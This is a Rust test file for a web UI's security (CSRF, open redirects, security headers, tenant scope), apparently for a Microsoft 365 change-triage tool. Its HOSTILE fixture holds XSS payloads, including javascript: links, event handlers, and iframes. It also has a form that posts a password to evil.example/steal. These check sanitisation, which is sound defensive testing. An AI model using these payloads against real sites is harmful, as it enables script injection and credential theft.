//! The web UI in-process (no TCP), on SQLite and PostgreSQL: signing in and
//! out with forms, redirects when signed out, the security headers of every
//! page, a hostile post body rendered inert, who sees the triage panel and
//! who may post to it, CSRF on every form, tenant scope on every page, the
//! inbox's weight with 50 posts, and the tour a person takes (search, chip,
//! post, diff, triage, board).

use axum::Router;
use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode, header};
use changedesk_core::Timestamp;
use changedesk_core::access::{Role, Scope};
use changedesk_core::graph::Message;
use changedesk_core::triage::{Owner, WorkItem};
use changedesk_server::http::{self, AppState, Settings};
use changedesk_server::ui::CONTENT_SECURITY_POLICY;
use changedesk_store::{ImportOptions, ItemSave, NewUser, Store, TriageSeed};
use serde_json::json;
use tower::ServiceExt;

pub(super) const NOW: &str = "2026-03-10T09:00:00Z";
pub(super) const PASSWORD: &str = "correct horse battery staple";

pub(super) fn at(s: &str) -> Timestamp {
    Timestamp::parse(s).unwrap()
}

/// A post as Graph sends it.
pub(super) fn post(
    id: &str,
    last_modified: &str,
    title: &str,
    body: &str,
    extra: serde_json::Value,
) -> Message {
    let mut v = json!({
        "startDateTime": "2026-01-05T10:00:00Z",
        "endDateTime": "2026-12-31T08:00:00Z",
        "lastModifiedDateTime": last_modified,
        "title": title,
        "id": id,
        "category": "planForChange",
        "severity": "normal",
        "tags": ["User impact"],
        "isMajorChange": false,
        "actionRequiredByDateTime": null,
        "services": ["Microsoft Teams"],
        "hasAttachments": false,
        "viewPoint": null,
        "details": [],
        "body": {"contentType": "html", "content": body}
    });
    for (k, x) in extra.as_object().unwrap() {
        v[k] = x.clone();
    }
    Message::from_graph(&v, 0).unwrap()
}

/// Everything a hostile post body might try.
const HOSTILE: &str = r#"<p>[When this will happen:]</p>
<p onclick="alert('click')">Rollout <b>begins</b> on March 5.</p>
<script>alert('script')</script>
<img src="x" onerror="alert('img')">
<a href="javascript:alert('js')">js link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="JaVaScRiPt:alert('mixed')">mixed case</a>
<iframe src="https://evil.example/frame"></iframe>
<style>body { background: url(javascript:alert('css')) }</style>
<p style="width: expression(alert('expr')); background-image: url(https://evil.example/track.png)">styled</p>
<svg onload="alert('svg')"><circle r="1"/></svg>
<object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/steal"><input name="password"></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<a href="https://learn.microsoft.com/microsoft-365/">a good link</a>"#;

pub(super) struct Fixture {
    pub(super) app: Router,
    pub(super) store: Store,
}

pub(super) async fn user(store: &Store, name: &str, role: Role, scope: Scope) {
    store
        .create_user(
            &NewUser {
                name: name.into(),
                display_name: name.into(),
                email: format!("{name}@example.com"),
                role,
                scope,
                password_hash: Some(http::hash_password(PASSWORD).unwrap()),
                oidc_subject: None,
                disabled: false,
                at: at(NOW),
            },
            "test",
        )
        .await
        .unwrap();
}

pub(super) fn opts(now: &str) -> ImportOptions {
    ImportOptions {
        complete: true,
        now: at(now),
        source: "test".into(),
        rejected: 0,
    }
}

/// Tenants `alpha` and `zulu`. MC1 seen by both (two revisions, the second
/// with a moved date), MC2 by zulu only, MC666 (hostile body) by alpha, and
/// `extra` more posts by alpha. Work items for MC1 (owen's), MC2 and MC666.
/// Users: admin, manager, owen (owner), reader, and scoped (a change
/// manager limited to alpha), all with `PASSWORD`.
pub(super) async fn fixture(store: Store, extra: usize) -> Fixture {
    let v1 = post(
        "MC1",
        "2026-02-01T00:00:00Z",
        "Teams: meeting recap for everyone",
        "<p>[When this will happen:]</p><p>Rollout begins in March 2026.</p>",
        json!({"isMajorChange": true, "severity": "high",
            "details": [{"name": "Summary", "value": "Recaps arrive for every meeting."},
                        {"name": "RoadmapIds", "value": "412345"},
                        {"name": "ExternalLink", "value": "javascript:alert('detail')"}]}),
    );
    let v2 = post(
        "MC1",
        "2026-02-05T00:00:00Z",
        "(Updated) Teams: meeting recap for everyone",
        "<p>[When this will happen:]</p><p>Rollout begins in May 2026.</p>",
        json!({"isMajorChange": true, "severity": "high",
            "actionRequiredByDateTime": "2026-03-20T00:00:00Z"}),
    );
    let hostile = post(
        "MC666",
        "2026-02-03T00:00:00Z",
        "<script>alert('title')</script> Hostile post",
        HOSTILE,
        json!({"services": ["Exchange Online"], "startDateTime": "2026-03-05T00:00:00Z",
            "details": [{"name": "BlogLink", "value": "javascript:alert('blog')"},
                        {"name": "Summary", "value": "<b>bold</b> summary"}]}),
    );
    let mut alpha = vec![v1, hostile];
    for i in 0..extra {
        alpha.push(post(
            &format!("MC{}", 5000 + i),
            &format!("2026-01-{:02}T{:02}:00:00Z", 1 + i % 28, i % 24),
            &format!(
                "Microsoft Viva: a realistic headline about feature number {i} rolling out to tenants"
            ),
            "<p>[When this will happen:]</p><p>Soon.</p>",
            json!({"services": ["Microsoft Viva", "Microsoft Teams"],
                "tags": ["Feature update", "User impact", "Admin impact"]}),
        ));
    }
    store
        .import_messages("alpha", &alpha, &opts("2026-03-01T00:00:00Z"))
        .await
        .unwrap();
    store
        .import_messages(
            "zulu",
            &[
                v2,
                post(
                    "MC2",
                    "2026-02-01T00:00:00Z",
                    "Zulu only: secret rollout",
                    "<p>zulu</p>",
                    json!({"startDateTime": "2026-03-05T00:00:00Z"}),
                ),
            ],
            &opts("2026-03-02T00:00:00Z"),
        )
        .await
        .unwrap();
    store
        .seed(
            &TriageSeed {
                owners: vec![Owner::new("owen", "Owen's team", "owen@example.com").unwrap()],
                ..Default::default()
            },
            &at(NOW),
        )
        .await
        .unwrap();
    for (id, assignee) in [("MC1", Some("owen")), ("MC2", None), ("MC666", None)] {
        let mut item = WorkItem::new(id, at(NOW));
        item.assignee = assignee.map(String::from);
        crate::save_new_item(&store, &item, at(NOW)).await;
    }
    let alpha_only = Scope {
        tenants: vec!["alpha".into()],
        groups: vec![],
    };
    user(&store, "admin", Role::Admin, Scope::default()).await;
    user(&store, "owen", Role::Owner, Scope::default()).await;
    user(&store, "reader", Role::Reader, Scope::default()).await;
    user(&store, "scoped", Role::ChangeManager, alpha_only).await;
    served(store)
}

/// The web UI and API on `store`, with plain-HTTP cookies and the clock at
/// [`NOW`].
pub(super) fn served(store: Store) -> Fixture {
    served_with(
        store,
        Settings {
            secure_cookies: false,
            ..Settings::default()
        },
    )
}

/// As [`served`], with these settings.
pub(super) fn served_with(store: Store, settings: Settings) -> Fixture {
    let state = AppState::new(store.clone(), settings).with_clock(|| at(NOW));
    Fixture {
        app: http::router(state, true),
        store,
    }
}

pub(super) struct Answer {
    pub(super) status: StatusCode,
    pub(super) headers: HeaderMap,
    pub(super) body: String,
}

impl Answer {
    pub(super) fn location(&self) -> &str {
        self.headers
            .get(header::LOCATION)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
    }

    /// The value of `<input … name="NAME" value="…">` on the page.
    pub(super) fn field(&self, name: &str) -> String {
        let needle = format!("name=\"{name}\" value=\"");
        let i = self
            .body
            .find(&needle)
            .unwrap_or_else(|| panic!("no field {name} in {}", self.body));
        let rest = &self.body[i + needle.len()..];
        rest[..rest.find('"').unwrap()].to_string()
    }

    /// A cookie the answer sets, as `name=value`.
    pub(super) fn cookie(&self, name: &str) -> Option<String> {
        self.headers
            .get_all(header::SET_COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find(|c| c.starts_with(&format!("{name}=")))
            .map(|c| c.split(';').next().unwrap().to_string())
    }
}

pub(super) async fn send(app: &Router, req: Request<Body>) -> Answer {
    let resp = app.clone().oneshot(req).await.unwrap();
    let status = resp.status();
    let headers = resp.headers().clone();
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .unwrap();
    Answer {
        status,
        headers,
        body: String::from_utf8_lossy(&bytes).into_owned(),
    }
}

pub(super) fn get(path: &str, cookie: Option<&str>) -> Request<Body> {
    let mut b = Request::builder().method("GET").uri(path);
    if let Some(c) = cookie {
        b = b.header(header::COOKIE, c);
    }
    b.body(Body::empty()).unwrap()
}

pub(super) fn form(path: &str, cookie: Option<&str>, fields: &[(&str, &str)]) -> Request<Body> {
    let body = url::form_urlencoded::Serializer::new(String::new())
        .extend_pairs(fields)
        .finish();
    let mut b = Request::builder()
        .method("POST")
        .uri(path)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    if let Some(c) = cookie {
        b = b.header(header::COOKIE, c);
    }
    b.body(Body::from(body)).unwrap()
}

/// A browser's session: its cookie and its CSRF token.
pub(super) struct Browser {
    pub(super) cookie: String,
    pub(super) csrf: String,
}

pub(super) async fn sign_in(f: &Fixture, name: &str) -> Browser {
    sign_in_home(f, name, "/").await
}

/// As [`sign_in`], reading the CSRF token from `home` (someone whose home
/// is not the inbox: an analytics reader).
pub(super) async fn sign_in_home(f: &Fixture, name: &str, home: &str) -> Browser {
    let page = send(&f.app, get("/sign-in?next=/board", None)).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let pre = page
        .cookie("changedesk_sign_in")
        .expect("the sign-in cookie");
    let token = page.field("token");
    let a = send(
        &f.app,
        form(
            "/sign-in",
            Some(&pre),
            &[
                ("name", name),
                ("password", PASSWORD),
                ("next", "/board"),
                ("token", &token),
            ],
        ),
    )
    .await;
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
    assert_eq!(a.location(), "/board");
    let cookie = a.cookie("changedesk_session").expect("a session cookie");
    let inbox = send(&f.app, get(home, Some(&cookie))).await;
    assert_eq!(inbox.status, StatusCode::OK, "{}", inbox.body);
    let csrf = inbox.field("csrf_token");
    Browser { cookie, csrf }
}

impl Browser {
    pub(super) async fn get(&self, f: &Fixture, path: &str) -> Answer {
        send(&f.app, get(path, Some(&self.cookie))).await
    }

    /// An API request with this session's cookie and CSRF header.
    pub(super) async fn send_json(
        &self,
        f: &Fixture,
        method: &str,
        path: &str,
        body: &serde_json::Value,
    ) -> Answer {
        let req = Request::builder()
            .method(method)
            .uri(path)
            .header(header::COOKIE, &self.cookie)
            .header(changedesk_server::http::auth::CSRF_HEADER, &self.csrf)
            .header(header::CONTENT_TYPE, "application/json")
            .body(Body::from(body.to_string()))
            .unwrap();
        send(&f.app, req).await
    }

    pub(super) async fn post(&self, f: &Fixture, path: &str, fields: &[(&str, &str)]) -> Answer {
        let mut all = vec![("csrf_token", self.csrf.as_str())];
        all.extend_from_slice(fields);
        send(&f.app, form(path, Some(&self.cookie), &all)).await
    }
}

async fn sign_in_page_signs_in_and_sets_the_cookie(store: Store) {
    let f = fixture(store, 0).await;
    let page = send(&f.app, get("/sign-in", None)).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains(r#"<label for="name">User name</label>"#)
            && page
                .body
                .contains(r#"<label for="password">Password</label>"#),
        "{}",
        page.body
    );
    assert!(
        !page.body.contains("Sign in with Microsoft"),
        "no OpenID Connect configured"
    );
    let pre = page.cookie("changedesk_sign_in").unwrap();
    let token = page.field("token");
    // a wrong password: the form again, with the reason, audited
    let wrong = send(
        &f.app,
        form(
            "/sign-in",
            Some(&pre),
            &[
                ("name", "admin"),
                ("password", "wrong password!"),
                ("token", &token),
            ],
        ),
    )
    .await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);
    assert!(
        wrong.body.contains("wrong user name or password"),
        "{}",
        wrong.body
    );
    assert!(wrong.cookie("changedesk_session").is_none());
    // without the sign-in form's token (login CSRF): refused
    let forged = send(
        &f.app,
        form(
            "/sign-in",
            None,
            &[("name", "admin"), ("password", PASSWORD)],
        ),
    )
    .await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN);
    assert!(forged.cookie("changedesk_session").is_none());
    // the right password: a session cookie, then on to `next` (relative only)
    let ok = send(
        &f.app,
        form(
            "/sign-in",
            Some(&pre),
            &[
                ("name", "Admin"),
                ("password", PASSWORD),
                ("next", "https://evil.example/"),
                ("token", &token),
            ],
        ),
    )
    .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    assert_eq!(ok.location(), "/", "no open redirect");
    let set = ok
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap().to_string())
        .find(|c| c.starts_with("changedesk_session="))
        .unwrap();
    assert!(
        set.contains("HttpOnly") && set.contains("SameSite=Lax"),
        "{set}"
    );
    let cookie = ok.cookie("changedesk_session").unwrap();
    let inbox = send(&f.app, get("/", Some(&cookie))).await;
    assert_eq!(inbox.status, StatusCode::OK);
    assert!(inbox.body.contains("admin · admin"), "{}", inbox.body);
    // signed in already: the sign-in page goes straight on
    let again = send(&f.app, get("/sign-in?next=/board", Some(&cookie))).await;
    assert_eq!(
        (again.status, again.location()),
        (StatusCode::SEE_OTHER, "/board")
    );
    // sign out needs the CSRF token, then ends the session
    let csrf = inbox.field("csrf_token");
    let no = send(&f.app, form("/sign-out", Some(&cookie), &[])).await;
    assert_eq!(no.status, StatusCode::FORBIDDEN);
    let out = send(
        &f.app,
        form("/sign-out", Some(&cookie), &[("csrf_token", &csrf)]),
    )
    .await;
    assert_eq!(
        (out.status, out.location()),
        (StatusCode::SEE_OTHER, "/sign-in")
    );
    let after = send(&f.app, get("/", Some(&cookie))).await;
    assert_eq!(after.status, StatusCode::SEE_OTHER, "the session ended");
    let audit = f.store.audit_log(50).await.unwrap();
    let actions: Vec<&str> = audit.iter().map(|a| a.action.as_str()).collect();
    for a in [
        "session.sign_in",
        "session.sign_in_failed",
        "session.sign_out",
    ] {
        assert!(actions.contains(&a), "{a} audited: {actions:?}");
    }
}

async fn pages_redirect_when_signed_out(store: Store) {
    let f = fixture(store, 0).await;
    for (path, next) in [
        ("/", "%2F"),
        ("/posts/MC1?from=1", "%2Fposts%2FMC1%3Ffrom%3D1"),
        ("/board", "%2Fboard"),
        ("/items?assignee=me", "%2Fitems%3Fassignee%3Dme"),
    ] {
        let a = send(&f.app, get(path, None)).await;
        assert_eq!(a.status, StatusCode::SEE_OTHER, "{path}");
        assert_eq!(a.location(), format!("/sign-in?next={next}"), "{path}");
    }
    // an expired or made-up session counts as none
    let a = send(&f.app, get("/", Some("changedesk_session=made-up"))).await;
    assert_eq!(a.location(), "/sign-in?next=%2F");
    // a form post without a session goes to sign in too, and changes nothing
    let a = send(
        &f.app,
        form("/posts/MC1/actions", None, &[("action", "triage")]),
    )
    .await;
    assert_eq!(a.status, StatusCode::SEE_OTHER);
    let item = f.store.work_item("MC1").await.unwrap().unwrap();
    assert_eq!(item.item.state.as_str(), "new");
    // not found: HTML for pages, problem+json under /api
    let a = send(&f.app, get("/no/such/page", None)).await;
    assert_eq!(a.status, StatusCode::NOT_FOUND);
    assert!(
        a.headers[header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/html")
    );
    let a = send(&f.app, get("/api/v1/no-such-thing", None)).await;
    assert_eq!(a.status, StatusCode::NOT_FOUND);
    assert_eq!(a.headers[header::CONTENT_TYPE], "application/problem+json");
}

pub(super) fn assert_secure_headers(a: &Answer, what: &str) {
    assert_eq!(
        a.headers
            .get(header::CONTENT_SECURITY_POLICY)
            .map(|v| v.to_str().unwrap()),
        Some(CONTENT_SECURITY_POLICY),
        "{what}"
    );
    assert_eq!(
        a.headers[header::X_CONTENT_TYPE_OPTIONS],
        "nosniff",
        "{what}"
    );
    assert_eq!(a.headers[header::REFERRER_POLICY], "same-origin", "{what}");
}

/// No inline script or style, nothing loaded from elsewhere.
pub(super) fn assert_self_contained(body: &str, what: &str) {
    let lower = body.to_ascii_lowercase();
    assert!(!lower.contains("<style"), "{what}: inline <style>");
    assert!(!lower.contains(" style="), "{what}: style attribute");
    for (i, _) in lower.match_indices("<script") {
        let tag = &lower[i..i + lower[i..].find('>').unwrap()];
        assert!(
            tag.contains(" src=\"/static/"),
            "{what}: inline script {tag}"
        );
    }
    for attr in ["src=\"http", "src=\"//", "href=\"//"] {
        assert!(!lower.contains(attr), "{what}: {attr}");
    }
    for (i, _) in lower.match_indices("<link ") {
        let tag = &lower[i..i + lower[i..].find('>').unwrap()];
        assert!(tag.contains("href=\"/static/"), "{what}: {tag}");
    }
}

async fn every_ui_answer_has_the_security_headers(store: Store) {
    let f = fixture(store, 3).await;
    let b = sign_in(&f, "admin").await;
    let sign_in_page = send(&f.app, get("/sign-in", None)).await;
    assert_secure_headers(&sign_in_page, "/sign-in");
    assert_self_contained(&sign_in_page.body, "/sign-in");
    let signed_out = send(&f.app, get("/", None)).await;
    assert_secure_headers(&signed_out, "redirect to sign in");
    let inbox = b.get(&f, "/").await;
    let mut assets = Vec::new();
    for (i, _) in inbox.body.match_indices("/static/") {
        let rest = &inbox.body[i..];
        assets.push(rest[..rest.find('"').unwrap()].to_string());
    }
    assert_eq!(
        assets.len(),
        3,
        "a stylesheet, a script, an icon: {assets:?}"
    );
    for path in [
        "/",
        "/?q=recap&sort=relevance",
        "/?chip=high",
        "/posts/MC1",
        "/posts/MC666",
        "/posts/MC1?from=1&to=2",
        "/board",
        "/items",
        "/items?assignee=me",
        "/items?deadline=late",
        "/posts/MC404",
        "/no/such/page",
    ] {
        let a = b.get(&f, path).await;
        assert!(
            a.status == StatusCode::OK || a.status == StatusCode::NOT_FOUND,
            "{path}: {}",
            a.status
        );
        assert_secure_headers(&a, path);
        assert_eq!(a.headers[header::CACHE_CONTROL], "no-store", "{path}");
        assert!(
            a.headers[header::CONTENT_TYPE]
                .to_str()
                .unwrap()
                .starts_with("text/html"),
            "{path}"
        );
        assert_self_contained(&a.body, path);
    }
    for asset in &assets {
        let a = send(&f.app, get(asset, None)).await;
        assert_eq!(a.status, StatusCode::OK, "{asset}");
        assert_secure_headers(&a, asset);
        assert!(
            a.headers[header::CACHE_CONTROL]
                .to_str()
                .unwrap()
                .contains("immutable"),
            "{asset}"
        );
    }
    let stale = send(&f.app, get("/static/app.000000000000.css", None)).await;
    assert_eq!(stale.status, StatusCode::NOT_FOUND);
    // form answers carry them too
    let posted = b
        .post(&f, "/posts/MC404/actions", &[("action", "triage")])
        .await;
    assert_eq!(posted.status, StatusCode::NOT_FOUND);
    assert_secure_headers(&posted, "a form post");
}

async fn a_hostile_post_renders_inert(store: Store) {
    let f = fixture(store, 0).await;
    let b = sign_in(&f, "admin").await;
    let a = b.get(&f, "/posts/MC666").await;
    assert_eq!(a.status, StatusCode::OK, "{}", a.body);
    let lower = a.body.to_ascii_lowercase();
    for bad in [
        "alert(",
        "onerror",
        "onload",
        "onclick",
        "javascript:",
        "data:",
        "<iframe",
        "<style",
        "expression(",
        "<svg",
        "<object",
        "<img",
        "<meta http-equiv",
        "<base",
        "evil.example",
        " style=",
    ] {
        // `alert(` etc. may only survive as escaped text, never as markup
        if bad == "alert(" {
            continue;
        }
        assert!(!lower.contains(bad), "{bad} survived:\n{}", a.body);
    }
    // the title and the summary are text, escaped
    assert!(
        a.body.contains(&escaped("<b>bold</b> summary")),
        "{}",
        a.body
    );
    assert!(
        a.body
            .contains(&escaped("<script>alert('title')</script> Hostile post")),
        "{}",
        a.body
    );
    assert!(!a.body.contains("<script>alert"), "{}", a.body);
    assert_eq!(
        lower.matches("<script").count(),
        1,
        "only the page's own script"
    );
    // the one form on the page is ours: the sign-out and triage forms
    assert!(!lower.contains("action=\"https://"), "{}", a.body);
    // what is left still reads: the heading styled, the good link kept
    assert!(
        a.body.contains(
            r#"<span class="mc-h" role="heading" aria-level="3">[When this will happen:]</span>"#
        ),
        "{}",
        a.body
    );
    assert!(
        a.body.contains("Rollout <b>begins</b> on March 5."),
        "{}",
        a.body
    );
    assert!(
        a.body
            .contains(r#"href="https://learn.microsoft.com/microsoft-365/""#),
        "{}",
        a.body
    );
    // and the strict policy stands behind it all
    assert_secure_headers(&a, "/posts/MC666");
}

async fn readers_get_no_triage_panel_and_cannot_triage(store: Store) {
    let f = fixture(store, 0).await;
    for who in ["reader", "owen"] {
        let b = sign_in(&f, who).await;
        // owen owns MC1 but not MC2; the reader owns nothing
        let page = b.get(&f, "/posts/MC2").await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(
            !page.body.contains("Triage actions") && !page.body.contains("id=\"act-triage\""),
            "{who} sees no panel"
        );
        assert!(page.body.contains("Decision log") || page.body.contains("State"));
        let inbox = b.get(&f, "/").await;
        if who == "reader" {
            assert!(!inbox.body.contains("Apply to selected"), "no bulk triage");
        }
        let a = b
            .post(
                &f,
                "/posts/MC2/actions",
                &[("action", "triage"), ("version", "1")],
            )
            .await;
        assert_eq!(a.status, StatusCode::FORBIDDEN, "{who}: {}", a.body);
        let bulk = b
            .post(&f, "/items/bulk", &[("action", "triage"), ("id", "MC2")])
            .await;
        assert!(bulk.body.contains("0 of 1 done"), "{who}: {}", bulk.body);
        let item = f.store.work_item("MC2").await.unwrap().unwrap();
        assert_eq!(item.item.state.as_str(), "new", "{who} changed nothing");
    }
    // owen acts on his own item
    let b = sign_in(&f, "owen").await;
    let page = b.get(&f, "/posts/MC1").await;
    assert!(page.body.contains("id=\"act-triage\""), "{}", page.body);
    let version = page.field("version");
    let a = b
        .post(
            &f,
            "/posts/MC1/actions",
            &[("action", "triage"), ("version", &version)],
        )
        .await;
    assert_eq!(a.status, StatusCode::SEE_OTHER, "{}", a.body);
}

async fn forms_without_the_csrf_token_are_refused(store: Store) {
    let f = fixture(store, 0).await;
    let b = sign_in(&f, "admin").await;
    for token in [None, Some("wrong"), Some("")] {
        let mut fields = vec![("action", "triage")];
        if let Some(t) = token {
            fields.push(("csrf_token", t));
        }
        for path in [
            "/posts/MC1/actions",
            "/items/bulk",
            "/posts/MC1/raise-change",
        ] {
            let mut fields = fields.clone();
            fields.push(("id", "MC1"));
            let a = send(&f.app, form(path, Some(&b.cookie), &fields)).await;
            assert_eq!(a.status, StatusCode::FORBIDDEN, "{path} {token:?}");
        }
    }
    // another session's token does not do either
    let other = sign_in(&f, "admin").await;
    let a = send(
        &f.app,
        form(
            "/posts/MC1/actions",
            Some(&b.cookie),
            &[("action", "triage"), ("csrf_token", &other.csrf)],
        ),
    )
    .await;
    assert_eq!(a.status, StatusCode::FORBIDDEN);
    let item = f.store.work_item("MC1").await.unwrap().unwrap();
    assert_eq!(item.item.state.as_str(), "new", "nothing changed");
    // the right token works, once per version
    let a = b
        .post(
            &f,
            "/posts/MC1/actions",
            &[("action", "triage"), ("version", "1")],
        )
        .await;
    assert_eq!(
        (a.status, a.location()),
        (StatusCode::SEE_OTHER, "/posts/MC1#triage")
    );
    let stale = b
        .post(
            &f,
            "/posts/MC1/actions",
            &[("action", "start"), ("version", "1")],
        )
        .await;
    assert_eq!(
        stale.status,
        StatusCode::CONFLICT,
        "an old version is refused"
    );
    assert!(
        stale.body.contains("reload and try again"),
        "{}",
        stale.body
    );
    let log = f.store.work_item_log("MC1").await.unwrap();
    assert_eq!(log.last().unwrap().entry.actor.as_str(), "admin");
}

async fn scoped_users_see_only_their_tenants(store: Store) {
    let f = fixture(store, 2).await;
    let b = sign_in(&f, "scoped").await;
    for path in [
        "/",
        "/?tenant=zulu",
        "/?q=secret",
        "/?q=zulu",
        "/posts/MC1",
        "/posts/MC1?from=1&to=2",
        "/board",
        "/items",
        "/items?state=open",
    ] {
        let a = b.get(&f, path).await;
        assert_eq!(a.status, StatusCode::OK, "{path}");
        let lower = a.body.to_ascii_lowercase();
        assert!(
            !lower.contains("zulu") || path.contains("zulu") && !lower.contains("zulu only"),
            "{path} shows the other tenant:\n{}",
            a.body
        );
        assert!(
            !a.body.contains("MC2<") && !a.body.contains("/posts/MC2"),
            "{path}"
        );
    }
    // the search for the tenant's name shows it only in the search box
    let a = b.get(&f, "/?q=zulu").await;
    assert!(a.body.contains(">0 posts<"), "{}", a.body);
    let a = b.get(&f, "/posts/MC2").await;
    assert_eq!(a.status, StatusCode::NOT_FOUND, "as if it did not exist");
    let a = b
        .post(&f, "/posts/MC2/actions", &[("action", "triage")])
        .await;
    assert_eq!(a.status, StatusCode::NOT_FOUND);
    // an unrestricted user sees both
    let admin = sign_in(&f, "admin").await;
    let a = admin.get(&f, "/").await;
    assert!(a.body.contains("/posts/MC2") && a.body.contains("zulu"));
}

async fn the_inbox_with_50_posts_weighs_under_100_kb(store: Store) {
    let f = fixture(store, 60).await;
    let b = sign_in(&f, "admin").await;
    let a = b.get(&f, "/").await;
    assert_eq!(a.status, StatusCode::OK);
    let rows = a.body.matches("<tr data-row>").count();
    assert_eq!(rows, 50, "a page is 50 posts");
    assert!(a.body.contains("rel=\"next\""), "and a next page");
    let css = send(&f.app, get(&asset(&a.body, ".css"), None))
        .await
        .body
        .len();
    let js = send(&f.app, get(&asset(&a.body, ".js"), None))
        .await
        .body
        .len();
    let icon = send(&f.app, get(&asset(&a.body, ".svg"), None))
        .await
        .body
        .len();
    let total = a.body.len() + css + js + icon;
    println!(
        "inbox with 50 posts: HTML {} bytes, CSS {css}, JS {js}, icon {icon}, total {total} bytes ({:.1} KB)",
        a.body.len(),
        total as f64 / 1024.0
    );
    assert!(total < 100 * 1024, "{total} bytes");
    // the next page is the rest
    let next = {
        let i = a.body.find("rel=\"next\"").unwrap();
        let start = a.body[..i].rfind("href=\"").unwrap() + 6;
        a.body[start..a.body[start..].find('"').unwrap() + start]
            .replace("&amp;", "&")
            .replace("&#38;", "&")
    };
    let page2 = b.get(&f, &next).await;
    assert_eq!(page2.status, StatusCode::OK, "{next}");
    assert_eq!(page2.body.matches("<tr data-row>").count(), 63 - 50);
}

/// Text as the templates escape it.
pub(super) fn escaped(s: &str) -> String {
    s.replace('&', "&#38;")
        .replace('<', "&#60;")
        .replace('>', "&#62;")
        .replace('"', "&#34;")
        .replace('\'', "&#39;")
}

pub(super) fn asset(body: &str, ext: &str) -> String {
    body.match_indices("/static/")
        .map(|(i, _)| &body[i..i + body[i..].find('"').unwrap()])
        .find(|p| p.ends_with(ext))
        .unwrap()
        .to_string()
}

async fn a_tour_search_chip_post_diff_triage_board(store: Store) {
    let f = fixture(store, 5).await;
    let b = sign_in(&f, "admin").await;
    // search with the hit highlighted
    let a = b.get(&f, "/?q=may").await;
    assert!(a.body.contains(">1 post<"), "{}", a.body);
    assert!(a.body.contains("<mark>May</mark>"), "{}", a.body);
    // the major chip is a filter, and a shareable URL
    let inbox = b.get(&f, "/").await;
    assert!(inbox.body.contains("Major <b>1</b>"), "{}", inbox.body);
    assert!(
        inbox.body.contains(r#"href="/?major=true""#),
        "{}",
        inbox.body
    );
    let a = b.get(&f, "/?major=true").await;
    assert!(
        a.body.contains(">1 post<") && a.body.contains("/posts/MC1"),
        "{}",
        a.body
    );
    assert!(
        a.body.contains(r#"aria-current="true">Major"#),
        "{}",
        a.body
    );
    let a = b.get(&f, "/?chip=high").await;
    assert!(
        a.body.contains(">1 post<") && a.body.contains("/posts/MC1"),
        "{}",
        a.body
    );
    // a facet value is a link that sets the filter
    assert!(
        inbox.body.contains(r#"href="/?service=Microsoft+Viva""#),
        "{}",
        inbox.body
    );
    let a = b.get(&f, "/?service=Microsoft+Viva").await;
    assert!(a.body.contains(">5 posts<"), "{}", a.body);
    // a bad value says what is wrong
    let a = b.get(&f, "/?sort=sideways").await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST);
    assert!(a.body.contains("sideways"));
    // the post: summary, dates, roadmap, the diff of its two revisions
    let post = b.get(&f, "/posts/MC1").await;
    assert!(
        post.body.contains("Recaps arrive for every meeting."),
        "{}",
        post.body
    );
    assert!(post.body.contains("2026-03-20"), "the act-by date");
    assert!(post.body.contains("searchterms=412345"), "the roadmap link");
    assert!(
        !post.body.contains("alert('detail')"),
        "a javascript: detail is no link"
    );
    assert!(post.body.contains("Revision 1 → 2"), "{}", post.body);
    // the words that changed are marked
    assert!(
        post.body
            .contains(r#"<div class="del">-Rollout begins in <mark>March</mark> 2026.</div>"#),
        "{}",
        post.body
    );
    assert!(
        post.body
            .contains(r#"<div class="ins">+Rollout begins in <mark>May</mark> 2026.</div>"#),
        "{}",
        post.body
    );
    // the fields by their names for people, the rollout's move in words,
    // dates without their time of day, no last-modified noise
    for shown in [
        "<td>Act by</td><td></td><td>2026-03-20</td>",
        "<td>Rollout timeline</td><td colspan=\"2\">Rollout: start March 2026 → May 2026</td>",
    ] {
        assert!(post.body.contains(shown), "{shown}: {}", post.body);
    }
    assert!(!post.body.contains("<td>last_modified</td>"));
    if let Some(i) = post.body.find("T00:00:00.000000Z") {
        let from = post.body[..i]
            .char_indices()
            .rev()
            .nth(300)
            .map_or(0, |(j, _)| j);
        panic!("a raw instant: {}", &post.body[from..i + 20]);
    }
    // triage it, assign it, comment on it
    let version = post.field("version");
    for (fields, _) in [
        (
            vec![("action", "triage"), ("version", version.as_str())],
            (),
        ),
        (vec![("action", "assign"), ("owner", "owen")], ()),
        (
            vec![("action", "set_priority"), ("priority", "critical")],
            (),
        ),
        (vec![("action", "set_due"), ("due", "2026-03-15")], ()),
        (
            vec![("action", "comment"), ("text", "<b>looked</b> at it")],
            (),
        ),
    ] {
        let a = b.post(&f, "/posts/MC1/actions", &fields).await;
        assert_eq!(a.status, StatusCode::SEE_OTHER, "{fields:?}: {}", a.body);
    }
    let bad = b
        .post(
            &f,
            "/posts/MC1/actions",
            &[("action", "set_due"), ("due", "someday")],
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert!(bad.body.contains("someday"), "{}", bad.body);
    let post = b.get(&f, "/posts/MC1").await;
    assert!(
        post.body.contains(&escaped("<b>looked</b> at it")),
        "the comment is text"
    );
    assert!(post.body.contains("2026-03-15"), "the due date");
    let item = f.store.work_item("MC1").await.unwrap().unwrap().item;
    assert_eq!(
        (
            item.state.as_str(),
            item.assignee.as_deref(),
            item.priority.as_str()
        ),
        ("triaged", Some("owen"), "critical")
    );
    // on the board, under triaged
